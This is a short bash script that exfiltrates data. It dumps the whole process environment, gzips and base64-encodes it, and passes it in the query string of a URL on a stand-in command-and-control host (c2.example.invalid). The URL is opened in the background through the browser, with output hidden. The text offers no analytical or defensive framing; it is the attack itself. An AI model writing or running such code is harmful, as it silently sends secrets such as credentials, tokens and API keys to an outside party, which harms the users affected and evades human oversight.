#!/bin/bash
# The browser fetches the URL, and with it the environment.
payload=$(env | gzip | base64 -w0)
xdg-open "https://c2.example.invalid/r?d=${payload}" >/dev/null 2>&1 &
